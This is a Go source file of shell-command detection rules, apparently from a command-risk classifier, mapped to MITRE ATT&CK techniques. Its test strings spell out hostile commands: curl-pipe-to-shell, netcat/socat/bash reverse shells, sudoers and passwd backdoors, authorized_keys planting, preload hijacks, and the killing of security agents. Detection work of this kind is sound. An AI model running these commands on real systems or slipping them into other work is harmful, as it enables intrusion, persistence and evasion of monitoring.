package judge

import "escort/explain/effect"

// controlRules are about who gets control.
var controlRules = []Rule{
	{
		ID: "runs-fetched-code", Risk: effect.High, Dimension: effect.Control, Technique: "T1105", Input: "network",
		Match:    []string{"curl http://x.example/i | sh", "wget -qO- http://x | bash", `bash -c "$(curl -fsSL http://x)"`, "bash <(curl http://x)"},
		NotMatch: []string{"curl http://x.example/i", "echo 'curl http://x | sh'", "curl http://x | grep sh"},
	},
	{
		ID: "reverse-shell", Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059",
		Words:    `(^|\s)(nc|ncat|netcat|nc\.\w+)\s(.*\s)?(-\w*[ec]\w*|--exec|--sh-exec)(\s|=)*\S*(sh|bash|zsh|dash|python|perl|cmd)`,
		Match:    []string{"nc -l -p 4444 -e /bin/sh", "ncat 10.0.0.1 4444 -e /bin/bash", "nc -e sh 10.0.0.1 1"},
		NotMatch: []string{"nc -zv db 5432", "echo 'nc -e /bin/sh'"},
		Programs: "nc ncat netcat nc.traditional nc.openbsd",
	},
	{
		ID: "reverse-shell", Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059", Programs: "socat",
		Words:    `(?i)\b(exec|system|shell):`,
		Match:    []string{"socat tcp:10.0.0.1:1 exec:/bin/sh", "socat TCP-LISTEN:44,fork EXEC:bash"},
		NotMatch: []string{"socat - tcp:localhost:80"},
	},
	{
		ID: "reverse-shell", Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059", Programs: "sh bash dash zsh ksh busybox",
		Class: "network", Access: "read write",
		Match:    []string{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -i > /dev/tcp/10.0.0.1/1"},
		NotMatch: []string{"cat /dev/null"},
	},
	{
		ID: "network-by-shell", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1095", Class: "network", Access: "read write",
		Match:    []string{"cat x > /dev/tcp/10.0.0.1/80", "exec 3<>/dev/tcp/10.0.0.1/80"},
		NotMatch: []string{"cat x > out"},
	},
	{
		ID: "login-key-planted", Risk: effect.Critical, Dimension: effect.Control, Technique: "T1098.004", Class: "login-list", Access: "write",
		Match:    []string{"echo ssh-ed25519 AAAA x >> ~/.ssh/authorized_keys", "cp k /root/.ssh/authorized_keys"},
		NotMatch: []string{"cat ~/.ssh/authorized_keys", "echo ~/.ssh/authorized_keys"},
	},
	{
		ID: "admin-rules-changed", Risk: effect.Critical, Dimension: effect.Control, Technique: "T1548.003", Class: "sudoers", Access: "write delete",
		Match:    []string{"echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "cp x /etc/sudoers.d/x"},
		NotMatch: []string{"cat /etc/sudoers.d/README"},
	},
	{
		ID: "accounts-changed", Risk: effect.Critical, Dimension: effect.Control, Technique: "T1136.001", Class: "accounts password", Access: "write delete",
		Match:    []string{"echo x::0:0::/:/bin/sh >> /etc/passwd", "mv x /etc/shadow"},
		NotMatch: []string{"cat /etc/passwd"},
	},
	{
		ID: "login-rules-changed", Risk: effect.Critical, Dimension: effect.Control, Technique: "T1556.003", Class: "login-rules ssh-settings", Access: "write delete",
		Match:    []string{"cp x /etc/pam.d/sshd", "echo PermitRootLogin yes >> /etc/ssh/sshd_config"},
		NotMatch: []string{"cat /etc/ssh/sshd_config"},
	},
	{
		ID: "persistence", Risk: effect.High, Dimension: effect.Control, Technique: "T1053", Class: "schedule shell-settings service-settings", Access: "write",
		Match:    []string{"echo x >> ~/.bashrc", "cp job /etc/cron.d/job", "cp x.service /etc/systemd/system/x.service"},
		NotMatch: []string{"cat ~/.bashrc", "ls /etc/cron.d"},
	},
	{
		ID: "kernel-runs-it", Risk: effect.Critical, Dimension: effect.Control, Technique: "T1547", Class: "kernel-run preload", Access: "write",
		Match:    []string{"echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "echo /tmp/x.so > /etc/ld.so.preload"},
		NotMatch: []string{"cat /proc/sys/kernel/core_pattern"},
	},
	{
		ID: "program-replaced", Risk: effect.High, Dimension: effect.Control, Technique: "T1554", Class: "program", Access: "write",
		Match:    []string{"cp x /usr/bin/ls", "echo x > /bin/sh"},
		NotMatch: []string{"ls /usr/bin", "cp x ~/ls"},
	},
	{
		ID:   "container-switch",
		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1611", Class: "control-socket", Access: "write",
		Match:    []string{"chmod 666 /var/run/docker.sock"},
		NotMatch: []string{"ls /var/run/docker.sock"},
	},
	{
		ID: "reverse-shell", Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059", Programs: "websocat",
		Words:    `(?i)\b(exec|cmd|sh-c):`,
		Match:    []string{"websocat ws://10.0.0.1/ exec:/bin/sh", "websocat ws-l:0.0.0.0:9 cmd:bash"},
		NotMatch: []string{"websocat ws://127.0.0.1/"},
	},
	{
		ID: "reverse-shell", Says: "reverse-shell/opens-a-terminal-of-this-machine",
		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1021", Programs: terminals,
		Words:    `\s(--?display|-d)[= ]+\w[^\s:/]*:\d`,
		Match:    []string{"xterm -display 10.0.0.1:1", "xterm -bg black -display evil.example:0", "xterm -d 10.0.0.1:1 -e bash"},
		NotMatch: []string{"xterm -display :0", "xterm -e top"},
	},
	{
		ID: "reverse-shell", Says: "reverse-shell/opens-a-terminal-of-this-machine",
		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1021", Programs: terminals,
		Env:      `^DISPLAY=\w[^:/]*:\d`,
		Match:    []string{"DISPLAY=10.0.0.1:0 xterm"},
		NotMatch: []string{"DISPLAY=:0 xterm"},
	},
	{
		ID: "tunnel-back", Risk: effect.High, Dimension: effect.Control, Technique: "T1572", Programs: "chisel autossh frpc ligolo agent ngrok cloudflared rathole gost revsocks",
		Words:    `^chisel\s+client\s(.*\s)?R:|^autossh\s(.*\s)?-\w*R|^(ligolo|agent)\s.*-connect|^(frpc|revsocks|rathole|gost)\s|^ngrok\s+(tcp|http|tls)|^cloudflared\s(.*\s)?tunnel(\s+(run|-)|\s*$)`,
		Match:    []string{"chisel client 10.0.0.1:80 R:socks", "./chisel client --auth a:b 10.0.0.1 R:2222:localhost:22", "autossh -M 0 -R 2222:localhost:22 u@h", "ngrok tcp 22", "cloudflared tunnel --url http://localhost:80", "cloudflared tunnel run web"},
		NotMatch: []string{"chisel --help", "cloudflared tunnel list", "autossh -L 1:h:2 h"},
	},
	{
		ID: "hidden-folder", Risk: effect.High, Dimension: effect.Hiding, Technique: "T1564.001", Programs: "mkdir cp mv ln touch install tar unzip cd",
		Words:    `\s(/tmp|/var/\w+|/dev/shm|/etc|/usr(/\w+)*|/opt|/home/[^\s/]+|/root)/(\.{3,}|\.\. )(\s|/|$)`,
		Match:    []string{"mkdir /tmp/...", "cp x /dev/shm/.../y", "mv x '/var/tmp/.. /y'"},
		NotMatch: []string{"mkdir /tmp/.x", "go test ./...", "cp x ../y"},
	},
	{
		ID: "guard-killed", Risk: effect.High, Dimension: effect.Hiding, Technique: "T1562.001", Programs: "kill pkill killall xargs",
		Typed:    `(?i)(auditd|osquery|falco\b|falcon|wazuh|ossec|crowdstrike|sysdig|sentinel|carbonblack|cbagent|cbdaemon|mdatp|wdavdaemon|clamd|sysmon|filebeat|auditbeat|rsyslogd|syslog-ng|snort|suricata|fail2ban)`,
		Match:    []string{"kill -9 $(pidof osqueryd)", "pkill -f falcon-sensor", "kill $(pgrep auditd)"},
		NotMatch: []string{"kill $(pidof nginx)", "pkill firefox"},
	},
	{
		ID: "ways-in-cut", Risk: effect.High, Dimension: effect.Damage, Technique: "T1489", Programs: "kill pkill killall xargs",
		Typed:    `\s-(s\s*)?(STOP|SIGSTOP|TSTP|19|9|KILL|SIGKILL)\s(.*\W)?(sshd|systemd|dbus-daemon|NetworkManager)\b`,
		Match:    []string{"kill -STOP $(pidof sshd)", "pkill -STOP sshd", "killall -9 sshd"},
		NotMatch: []string{"kill -HUP $(pidof sshd)", "pkill -f sshd-session", "kill -9 $(pidof nginx)"},
	},
	{
		ID: "code-injected", Says: "code-injected/makes-a-familiar-name-start-another",
		Risk: effect.High, Dimension: effect.Control, Technique: "T1574", Programs: "hash",
		Words:    `^hash\s(.*\s)?-\w*p`,
		Match:    []string{"hash -p /tmp/x ls", "hash -p /bin/rm cat"},
		NotMatch: []string{"hash -r", "hash", "hash -t ls"},
	},
	{
		ID: "starts-by-itself", Says: "starts-by-itself/settings",
		Risk: effect.High, Dimension: effect.Control, Technique: "T1546", Class: "tool-settings", Access: "write",
		Words:    `(run-shell|if-shell|\bexec(ute)?\b|\bsystem\(|autocmd|\bsilent !|!\s*[/\w]|os\.|import |\bpython|\bshell\b|fsmonitor|hookspath|sshcommand|pipe\b)`,
		Match:    []string{"echo 'run-shell /tmp/x' >> ~/.tmux.conf", "echo 'autocmd VimEnter * silent !/tmp/x' >> ~/.vimrc"},
		NotMatch: []string{"echo 'set number' >> ~/.vimrc", "echo 'set -g mouse on' >> ~/.tmux.conf"},
	},
	{
		ID:   "option-named-file",
		Risk: effect.High, Dimension: effect.Control, Technique: "T1036", Plumb: `^1>[>|]?-{1,2}[a-zA-Z]`,
		Match:    []string{"echo > '--checkpoint=1'", "echo x >> -rf"},
		NotMatch: []string{"echo x > a-b", "ls 2>&-"},
	},
	{
		ID: "history-off", Says: "history-off/killed",
		Risk: effect.High, Dimension: effect.Hiding, Technique: "T1070.003", Programs: "kill", Typed: `-(9|KILL|SIGKILL|s\s*(9|KILL|SIGKILL))\s+"?\$\$`,
		Match:    []string{"kill -9 $$", "kill -KILL $$"},
		NotMatch: []string{"kill -9 4711", "echo $$"},
	},
	{
		ID: "code-injected", Says: "code-injected/renamed",
		Risk: effect.High, Dimension: effect.Control, Technique: "T1574.006", Programs: "declare typeset local",
		Words:    `^\w+ (.* )?-\w*n\w* \w+=(PATH|LD_PRELOAD|LD_LIBRARY_PATH|PROMPT_COMMAND|BASH_ENV|IFS)( |$)`,
		Match:    []string{"declare -n r=PATH"},
		NotMatch: []string{"declare -n r=x", "declare -i n=1"},
	},
	{
		ID: "known-name-redirected", Risk: effect.High, Dimension: effect.Control, Technique: "T1565.001", Class: "names network-settings", Access: "write",
		Words:    `\d\s+(\S+\s+)*\S*(ubuntu|debian|fedora|redhat|centos|pypi|pythonhosted|npmjs|github|gitlab|docker|google|microsoft|windowsupdate|apple|amazonaws|letsencrypt|crowdstrike|virustotal|clamav)\S*\.(com|org|io|net|dev)\b`,
		Match:    []string{"echo '192.0.2.1 archive.ubuntu.com' >> /etc/hosts"},
		NotMatch: []string{"echo '10.0.0.5 db1' >> /etc/hosts", "echo '192.0.2.1 github.com'"},
	},
}

// terminals show a shell in a window.
const terminals = "xterm uxterm x-terminal-emulator tilix foot sakura terminology wezterm rxvt urxvt gnome-terminal konsole xfce4-terminal lxterminal aterm eterm st alacritty kitty mate-terminal terminator"
